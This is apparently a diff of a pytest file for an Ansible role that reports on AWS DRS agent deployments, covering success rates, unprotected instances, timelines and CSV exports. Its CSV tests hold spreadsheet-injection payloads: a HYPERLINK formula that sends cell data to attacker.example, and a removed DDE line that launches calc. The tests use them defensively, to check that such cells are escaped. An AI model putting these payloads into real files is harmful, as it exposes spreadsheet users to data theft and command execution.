@@ -1,33 +1,59 @@
-"""The drs_report role's logic: time range, colour bands, per-account aggregation and the CSV export."""
+"""The drs_report role's logic: time range, colour bands, per-account figures, unprotected instances and the CSV
+exports, over history items in the layout drs_history_info returns."""
 
 import csv
 import io
-from datetime import datetime, timezone
+from datetime import datetime, timedelta, timezone
 
 import pytest
+from ansible.errors import AnsibleFilterError
 
+from ansible_collections.drs_orchestration.agent_deployer.plugins.filter.report import FilterModule
+from ansible_collections.drs_orchestration.agent_deployer.plugins.module_utils import outcomes
 from ansible_collections.drs_orchestration.agent_deployer.plugins.plugin_utils import report
 
+START = datetime(2025, 3, 1, 10, 0, 0, 871000, tzinfo=timezone.utc)
 
-def _deployment(account_id, attempted, installed, already=0, failed=0, skipped=0, started="2025-03-01T10:00:00Z",
-                deployment_id="d-1", status="partial", failed_instances=(), name=None):
-    succeeded = installed + already
-    return {
+
+def _iso(moment):
+    return moment.strftime("%Y-%m-%dT%H:%M:%S.") + f"{moment.microsecond // 1000:03d}Z"
+
+
+def _unprotected(instance_id, status, reason, remediation="Fix it, then re-run.", category=None, wave=1, name=None):
+    return {"instance_id": instance_id, "name": name or f"server {instance_id}", "region": "eu-west-1", "wave": wave,
+            "priority": "high", "status": status, "error_category": category, "ssm_status": None, "command_id": None,
+            "reason": reason, "remediation": remediation}
+
+
+def _item(account_id, by_status, unprotected=(), started=START, deployment_id="d-1", status="partial", run_id="0a1b2c3d",
+          name=None, finished=True, lease_until=None, left_out=0):
+    """An item as drs_history_info returns it: its figures are those of ``by_status``."""
+    item = {
         "deployment_id": deployment_id,
-        "timestamp": f"{started}#{account_id}",
+        "timestamp": f"{_iso(started)}#{account_id}#{run_id}",
+        "record_type": "deployment",
+        "run_id": run_id,
         "source_account_id": account_id,
         "source_account_name": name or f"account {account_id}",
         "deployment_pattern": "cross-account",
+        "regions": ["eu-west-1"],
+        "started_at": _iso(started),
+        "updated_at": _iso(started + timedelta(minutes=5)),
         "status": status,
-        "started_at": started,
-        "attempted": attempted,
-        "installed": installed,
-        "already_registered": already,
-        "failed": failed,
-        "skipped": skipped,
-        "success_rate": succeeded / attempted if attempted else None,
-        "failed_instances": list(failed_instances),
+        "stopped_after_wave": None,
+        "stop_reason": None,
+        "unprotected_instances": list(unprotected),
+        "unprotected_left_out": left_out,
+        "in_flight": [],
+        "unreachable": [],
     }
+    item.update(outcomes.tally(by_status))
+    if finished:
+        item["finished_at"] = _iso(started + timedelta(minutes=12, seconds=5))
+        item["duration_seconds"] = 725.0
+    else:
+        item["lease_until"] = lease_until or _iso(started + timedelta(minutes=15))
+    return item
 
 
 @pytest.mark.parametrize("rate, band", [
@@ -42,105 +68,214 @@ def test_colour_bands_at_the_95_and_80_percent_boundaries(rate, band):
     (57, 60, "green"), (56, 60, "yellow"), (48, 60, "yellow"), (47, 60, "red"), (8, 10, "yellow"), (95, 100, "green"),
 ])
 def test_rates_computed_from_counts_are_not_put_one_band_lower_by_rounding(succeeded, attempted, band):
-    assert report.success_band(succeeded / attempted) == band
+    figures = outcomes.tally({"installed": succeeded, "failed": attempted - succeeded})
+    assert report.success_band(figures["success_rate"]) == band
 
 
-def test_account_rates_sum_the_counts_of_all_their_deployments():
+def test_account_rates_sum_the_status_counts_of_all_their_deployments():
     deployments = [
-        _deployment("111111111111", 10, 10, status="success", deployment_id="d-1"),
-        _deployment("111111111111", 10, 6, already=2, failed=2, deployment_id="d-2", started="2025-03-01T12:00:00Z"),
-        _deployment("222222222222", 20, 19, failed=1, skipped=3, deployment_id="d-1"),
-        _deployment("333333333333", 0, 0, skipped=4, deployment_id="d-3", status="failed"),
+        _item("111111111111", {"installed": 10}, status="success"),
+        _item("111111111111", {"installed": 6, "already_registered": 2, "failed": 1, "timed_out": 1},
+              deployment_id="d-2", started=START + timedelta(hours=2)),
+        # 19 of 20 protected; the skipped, unsettled and unplanned instances are not attempted
+        _item("222222222222", {"installed": 19, "not_registered_after_success": 1, "skipped_ssm_offline": 3,
+                               "not_started": 2, "no_wave": 1}),
+        _item("333333333333", {"skipped_not_managed": 4}, deployment_id="d-3", status="failed"),
     ]
     rows = {row["account_id"]: row for row in report.account_rows(deployments)}
     assert list(rows) == ["111111111111", "222222222222", "333333333333"]
     first = rows["111111111111"]
     assert (first["deployments"], first["attempted"], first["installed"], first["already_registered"], first["failed"]) \
         == (2, 20, 16, 2, 2)
-    assert first["success_rate"] == pytest.approx(0.9) and first["band"] == "yellow"
-    assert first["last_status"] == "partial" and first["last_deployment_at"] == "2025-03-01 12:00:00"
-    assert rows["222222222222"]["success_rate"] == pytest.approx(0.95) and rows["222222222222"]["band"] == "green"
-    assert rows["222222222222"]["skipped"] == 3
+    assert first["success_rate"] == pytest.approx(18 / 20) and first["band"] == "yellow"
+    assert first["last_status"] == "partial" and first["last_started_at"] == "2025-03-01 12:00:00"
+    second = rows["222222222222"]
+    assert second["success_rate"] == pytest.approx(19 / 20) and second["band"] == "green"
+    assert (second["skipped"], second["unsettled"], second["unplanned"], second["unprotected"]) == (3, 2, 1, 7)
     # nothing attempted: no rate, grey rather than red
     assert rows["333333333333"]["success_rate"] is None and rows["333333333333"]["band"] == "none"
 
 
-def test_report_data_summarizes_groups_failures_and_orders_the_timeline():
-    failure = {"instance_id": "i-0a", "name": "web", "account_id": "222222222222", "region": "us-east-1",
-               "wave": 2, "priority": "high", "ssm_status": "Failed", "error_category": "network",
-               "error_message": "timeout", "remediation": "open 443"}
-    older = dict(failure, instance_id="i-0b", wave=1)
+def test_the_summary_counts_every_deployment_status_and_sums_the_instances():
+    statuses = ["in_progress", "success", "partial", "failed", "stopped", "interrupted", "interrupted"]
+    deployments = [_item(f"11111111111{number}", {"installed": 3, "failed": 1}, status=status, run_id=f"run{number:05d}")
+                   for number, status in enumerate(statuses)]
+    summary = report.report_data(deployments)["summary"]
+    assert summary["statuses"] == {status: statuses.count(status) for status in report.DEPLOYMENT_STATUSES}
+    assert list(summary["statuses"]) == ["in_progress", "success", "partial", "failed", "stopped", "interrupted"]
+    assert (summary["attempted"], summary["protected"], summary["failed"]) == (28, 21, 7)
+    assert summary["success_rate"] == pytest.approx(0.75) and summary["band"] == "red"
+    assert summary["records"] == 7 and summary["deployments"] == 1 and summary["accounts"] == 7
+
+
+def test_the_timeline_shows_start_status_and_duration_never_the_sort_key():
+    finished = _item("111111111111", {"installed": 2}, status="success")
+    stopped = dict(_item("222222222222", {"installed": 1, "in_flight": 1, "not_started": 3}, status="stopped",
+                         started=START + timedelta(hours=1)), stopped_after_wave=1, stop_reason="SIGTERM received")
+    interrupted = dict(_item("333333333333", {"installed": 1}, status="interrupted", finished=False,
+                             started=START + timedelta(hours=2)), recorded_status="in_progress")
+    timeline = report.report_data([finished, stopped, interrupted])["timeline"]
+    assert [entry["status"] for entry in timeline] == ["interrupted", "stopped", "success"]  # newest first
+    by_account = {entry["source_account_id"]: entry for entry in timeline}
+    assert by_account["111111111111"]["started"] == "2025-03-01 10:00:00"
+    assert by_account["111111111111"]["finished"] == "2025-03-01 10:12:05"
+    assert by_account["111111111111"]["duration"] == "12 min 5 s"
+    # a run that has not finished has no end and no duration, but shows until when its lease ran
+    assert by_account["333333333333"]["finished"] == "" and by_account["333333333333"]["duration"] == ""
+    assert by_account["333333333333"]["lease_until_shown"] == "2025-03-01 12:15:00"
+    assert by_account["222222222222"]["figures"]["unsettled"] == 4
+    assert by_account["222222222222"]["figures"]["success_rate"] == 1.0
+    for entry in timeline:
+        assert "#" not in entry["started"] + entry["finished"]
+
+
+def test_the_unprotected_instances_are_grouped_by_account_then_status_and_category():
+    offline = _unprotected("i-off", "skipped_ssm_offline", "SSM ping status ConnectionLost",
+                           outcomes.status_remediation("skipped_ssm_offline"))
+    network = _unprotected("i-net", "failed", "curl: (28) Connection timed out", "Open 443 to the DRS endpoints.",
+                           category="network", wave=2)
+    agent = _unprotected("i-agent", "failed", "exit code 1", "Read the agent's installation log.",
+                         category="agent_install", wave=0)
+    untagged = _unprotected("i-tag", "no_wave", "no dr:wave tag", outcomes.status_remediation("no_wave"), wave=None)
+    newer_network = _unprotected("i-net2", "failed", "connect timeout", "Open 443.", category="network", wave=1)
     deployments = [
-        _deployment("222222222222", 4, 2, already=1, failed=1, deployment_id="d-2", started="2025-03-02T08:00:00Z",
-                    failed_instances=[failure]),
-        _deployment("111111111111", 5, 5, deployment_id="d-1", status="success"),
-        _deployment("222222222222", 2, 1, failed=1, deployment_id="d-1", failed_instances=[older]),
+        _item("222222222222", {"installed": 4, "failed": 2, "skipped_ssm_offline": 1, "no_wave": 1},
+              unprotected=[offline, network, agent, untagged], name="Shared"),
+        _item("222222222222", {"failed": 1}, unprotected=[newer_network], deployment_id="d-2",
+              started=START + timedelta(days=1), status="failed", name="Shared"),
+        _item("111111111111", {"installed": 5}, status="success"),
     ]
-    data = report.report_data(deployments, filters={"since": "a", "until": "b"}, generated_at="now")
-    summary = data["summary"]
-    assert summary["deployments"] == 2 and summary["records"] == 3 and summary["accounts"] == 2
-    assert (summary["attempted"], summary["installed"], summary["already_registered"], summary["failed"]) == (11, 8, 1, 2)
-    assert summary["success_rate"] == pytest.approx(9 / 11) and summary["band"] == "yellow"
-    assert summary["failed_instances"] == 2 and summary["statuses"] == {"success": 1, "partial": 2, "failed": 0}
-    assert [row["band"] for row in data["accounts"]] == ["green", "red"]  # 5/5, then 4/6
-    groups = data["failures_by_account"]
-    assert [group["account_id"] for group in groups] == ["222222222222"]
-    # newest deployment first, each failure with its deployment's id and account name
-    assert [entry["instance_id"] for entry in groups[0]["failures"]] == ["i-0a", "i-0b"]
-    assert groups[0]["failures"][0]["deployment_id"] == "d-2"
-    assert groups[0]["account_name"] == "account 222222222222"
-    assert [entry["when"] for entry in data["timeline"]] == [
-        "2025-03-02 08:00:00", "2025-03-01 10:00:00", "2025-03-01 10:00:00"]
-    assert data["filters"] == {"since": "a", "until": "b"} and data["generated_at"] == "now"
+    groups = report.report_data(deployments)["unprotected_by_account"]
+    assert [group["account_id"] for group in groups] == ["222222222222"]  # an account with none has no group
+    group = groups[0]
+    assert group["account_name"] == "Shared" and group["count"] == 5 and group["left_out"] == []
+    kinds = [(kind["status"], kind["error_category"], [entry["instance_id"] for entry in kind["instances"]])
+             for kind in group["kinds"]]
+    # statuses in the order of the outcome model, failures by category, the newest run first
+    assert kinds == [("failed", "agent_install", ["i-agent"]), ("failed", "network", ["i-net2", "i-net"]),
+                     ("skipped_ssm_offline", "", ["i-off"]), ("no_wave", "", ["i-tag"])]
+    shown = {entry["instance_id"]: entry for kind in group["kinds"] for entry in kind["instances"]}
+    for instance in (offline, network, agent, untagged, newer_network):
+        assert shown[instance["instance_id"]]["reason"] == instance["reason"]
+        assert shown[instance["instance_id"]]["remediation"] == instance["remediation"]
+    assert shown["i-net2"]["started"] == "2025-03-02 10:00:00" and shown["i-net2"]["deployment_id"] == "d-2"
+    assert {kind["status"]: kind["group"] for kind in group["kinds"]} == {
+        "failed": "failed", "skipped_ssm_offline": "skipped", "no_wave": "unplanned"}
+
+
+def test_the_failed_instances_are_the_unprotected_ones_whose_status_is_a_failure():
+    unprotected = [_unprotected(f"i-{status}", status, f"because {status}", category="agent_install")
+                   for status in outcomes.UNPROTECTED_STATUSES]
+    deployment = _item("111111111111", outcomes.count(entry["status"] for entry in unprotected), unprotected)
+    data = report.report_data([deployment])
+    [group] = data["failures_by_account"]
+    assert sorted(entry["instance_id"] for entry in group["failures"]) == \
+        sorted(f"i-{status}" for status in outcomes.FAILED_STATUSES)
+    assert all(entry["error_message"] == entry["reason"] for entry in group["failures"])
+    assert data["summary"]["failed_instances"] == len(outcomes.FAILED_STATUSES)
+    assert data["summary"]["unprotected_listed"] == data["summary"]["unprotected"] == len(unprotected)
+
+
+def test_an_item_that_left_unprotected_instances_out_is_noted_with_how_many():
+    listed = [_unprotected(f"i-{number:03d}", "skipped_not_managed", "not managed by SSM") for number in range(3)]
+    deployment = _item("111111111111", {"skipped_not_managed": 10}, listed, status="failed", left_out=7)
+    data = report.report_data([deployment])
+    [group] = data["unprotected_by_account"]
+    assert group["left_out"] == [{"deployment_id": "d-1", "count": 7, "listed": 3, "started": "2025-03-01 10:00:00"}]
+    assert data["summary"]["unprotected_left_out"] == 7
+    assert data["summary"]["unprotected_listed"] == 3 and data["summary"]["unprotected"] == 10
 
 
 def test_an_empty_history_gives_an_empty_report():
     data = report.report_data([])
     assert data["summary"]["deployments"] == 0 and data["summary"]["success_rate"] is None
-    assert data["accounts"] == [] and data["failures_by_account"] == [] and data["timeline"] == []
+    assert data["summary"]["statuses"] == dict.fromkeys(report.DEPLOYMENT_STATUSES, 0)
+    assert data["accounts"] == data["failures_by_account"] == data["unprotected_by_account"] == data["timeline"] == []
 
 
-def test_csv_quotes_commas_quotes_and_newlines():
-    failure = {
-        "deployment_id": "d-1", "timestamp": "2025-03-01T10:00:00Z#111111111111", "source_account_id": "111111111111",
-        "source_account_name": 'Prod, "EU"', "account_id": "111111111111", "region": "eu-west-1",
-        "instance_id": "i-1", "name": "db,primary", "wave": 3, "priority": None, "ssm_status": "Failed",
-        "error_category": "agent_install", "error_message": 'line one\nline "two", end',
-        "remediation": "=cmd|' /C calc'!A0",
-    }
-    text = report.failures_csv([failure])
+def test_an_instance_status_the_outcome_model_does_not_know_stops_the_report():
+    deployment = _item("111111111111", {"installed": 1})
+    deployment["by_status"] = {"installed": 1, "exploded": 1}
+    with pytest.raises(AnsibleFilterError, match="exploded"):
+        FilterModule().filters()["drs_report_data"]([deployment])
+
+
+def _rows(text):
+    return list(csv.DictReader(io.StringIO(text, newline="")))
+
+
+def test_failures_csv_holds_the_runs_start_time_not_the_tables_sort_key():
+    failure = _unprotected("i-1", "timed_out", "still running at the deadline", category="ssm_timeout")
+    deployment = _item("222222222222", {"timed_out": 1, "installed": 3}, [failure], name="Shared")
+    text = report.failures_csv(report.flatten_failures([deployment]))
     assert text.startswith(",".join(report.FAILURE_CSV_COLUMNS) + "\r\n")
+    [row] = _rows(text)
+    assert "timestamp" not in row
+    assert row["started_at"] == deployment["started_at"] != deployment["timestamp"]
+    assert report.parse_time(row["started_at"]) == START
+    assert (row["deployment_id"], row["account_id"], row["account_name"]) == ("d-1", "222222222222", "Shared")
+    assert (row["instance_id"], row["error_category"], row["error_message"], row["remediation"]) == (
+        "i-1", "ssm_timeout", "still running at the deadline", failure["remediation"])
+
+
+def test_unprotected_csv_has_a_row_per_unprotected_instance_with_its_run_and_account():
+    instances = [
+        _unprotected("i-1", "skipped_ssm_offline", "ping ConnectionLost", outcomes.status_remediation("skipped_ssm_offline")),
+        _unprotected("i-2", "failed", 'line one\nline "two", end', "Open 443", category="network", wave=0,
+                     name="db,primary"),
+        _unprotected("i-3", "no_wave", "no wave tag", outcomes.status_remediation("no_wave"), wave=None),
+    ]
+    deployments = [_item("111111111111", {"skipped_ssm_offline": 1, "failed": 1, "no_wave": 1}, instances,
+                         name='Prod, "EU"'),
+                   _item("222222222222", {"installed": 4}, status="success")]
+    text = report.unprotected_csv(report.flatten_unprotected(deployments))
+    assert text.startswith(",".join(report.UNPROTECTED_CSV_COLUMNS) + "\r\n")
+    assert list(report.UNPROTECTED_CSV_COLUMNS) == [
+        "deployment_id", "started_at", "account_id", "account_name", "region", "instance_id", "name", "wave",
+        "priority", "status", "error_category", "reason", "remediation"]
     assert '"Prod, ""EU"""' in text and '"db,primary"' in text and '"line one\nline ""two"", end"' in text
-    rows = list(csv.DictReader(io.StringIO(text, newline="")))
-    assert len(rows) == 1
-    row = rows[0]
-    assert row["account_name"] == 'Prod, "EU"' and row["name"] == "db,primary"
-    assert row["error_message"] == 'line one\nline "two", end'
-    assert row["wave"] == "3" and row["priority"] == ""
-    assert row["remediation"] == "'" + failure["remediation"]
+    rows = _rows(text)
+    assert [row["instance_id"] for row in rows] == ["i-1", "i-2", "i-3"]
+    for row, instance in zip(rows, instances):
+        assert row["deployment_id"] == "d-1" and row["started_at"] == deployments[0]["started_at"]
+        assert row["account_id"] == "111111111111" and row["account_name"] == 'Prod, "EU"'
+        for column in ("region", "instance_id", "name", "priority", "status", "reason", "remediation"):
+            assert row[column] == instance[column], column
+        assert row["error_category"] == (instance["error_category"] or "")
+        assert row["wave"] == ("" if instance["wave"] is None else str(instance["wave"]))
 
 
 @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
-def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_stay_text(start):
+@pytest.mark.parametrize("export", ["failures", "unprotected"])
+def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_stay_text(start, export):
     hostile = start + 'HYPERLINK("http://attacker.example/?"&A1,"click")'
-    failure = {"deployment_id": "d-1", "account_id": "111111111111", "instance_id": "i-1", "name": hostile,
-               "error_message": hostile, "wave": -1, "error_category": "unknown"}
-    row = next(csv.DictReader(io.StringIO(report.failures_csv([failure]), newline="")))
-    assert row["name"] == row["error_message"] == "'" + hostile
+    instance = _unprotected("i-1", "failed", hostile, remediation=hostile, category="unknown", wave=-1, name=hostile)
+    deployment = _item("111111111111", {"failed": 1}, [instance], name=hostile)
+    flatten, write = {"failures": (report.flatten_failures, report.failures_csv),
+                      "unprotected": (report.flatten_unprotected, report.unprotected_csv)}[export]
+    [row] = _rows(write(flatten([deployment])))
+    message = row["error_message"] if export == "failures" else row["reason"]
+    assert row["name"] == row["account_name"] == row["remediation"] == message == "'" + hostile
     # numbers are not text a spreadsheet could run; they stay as they are, like ordinary text does
     assert row["wave"] == "-1" and row["instance_id"] == "i-1" and row["error_category"] == "unknown"
 
 
-def test_csv_of_no_failure_is_the_header_alone():
+def test_csv_of_no_instance_is_the_header_alone():
     assert report.failures_csv([]) == ",".join(report.FAILURE_CSV_COLUMNS) + "\r\n"
+    assert report.unprotected_csv([]) == ",".join(report.UNPROTECTED_CSV_COLUMNS) + "\r\n"
 
 
-def test_flattened_failures_carry_their_deployment():
-    deployment = _deployment("111111111111", 1, 0, failed=1, failed_instances=[{"instance_id": "i-1", "wave": 1}])
-    (entry,) = report.flatten_failures([deployment, _deployment("222222222222", 1, 1)])
-    assert entry == {"deployment_id": "d-1", "timestamp": deployment["timestamp"], "source_account_id": "111111111111",
-                     "source_account_name": "account 111111111111", "deployment_pattern": "cross-account",
-                     "instance_id": "i-1", "wave": 1}
+def test_flattened_instances_carry_their_run_and_come_in_time_order():
+    later = _item("111111111111", {"failed": 1}, [_unprotected("i-later", "failed", "x")], deployment_id="d-2",
+                  started=START + timedelta(hours=1))
+    earlier = _item("222222222222", {"not_started": 1}, [_unprotected("i-earlier", "not_started", "y")])
+    flattened = report.flatten_unprotected([later, earlier, _item("333333333333", {"installed": 1})])
+    assert [entry["instance_id"] for entry in flattened] == ["i-earlier", "i-later"]
+    assert {key: flattened[1][key] for key in ("deployment_id", "started_at", "account_id", "account_name",
+                                               "deployment_pattern", "deployment_status")} == {
+        "deployment_id": "d-2", "started_at": later["started_at"], "account_id": "111111111111",
+        "account_name": "account 111111111111", "deployment_pattern": "cross-account", "deployment_status": "partial"}
+    assert [entry["instance_id"] for entry in report.flatten_failures([later, earlier])] == ["i-later"]
 
 
 def test_time_range_defaults_to_the_last_24_hours():
@@ -169,7 +304,7 @@ def test_percent():
 
 
 def test_times_and_durations_for_people():
-    assert report.display_time("2025-03-01T10:00:00.123Z#111111111111") == "2025-03-01 10:00:00"
+    assert report.display_time("2025-03-01T10:00:00.123Z") == "2025-03-01 10:00:00"
     assert report.display_time("not a time") == "not a time"
     assert report.display_time(None) == ""
     assert [report.display_duration(value) for value in (None, 45, 60, 725.4, 7380)] == \
